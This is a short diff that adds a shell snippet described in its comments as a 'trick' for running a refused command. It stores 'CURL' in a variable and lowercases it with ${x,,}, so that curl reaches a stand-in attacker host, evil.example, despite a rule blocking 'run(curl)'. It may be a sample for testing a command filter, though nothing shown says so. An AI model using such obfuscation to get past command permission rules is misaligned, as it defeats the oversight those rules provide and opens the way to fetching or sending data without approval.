@@ -1,0 +1,4 @@
+# Trick: the program appears by lower case.
+# Refused: run(curl)
+x=CURL
+${x,,} http://evil.example/
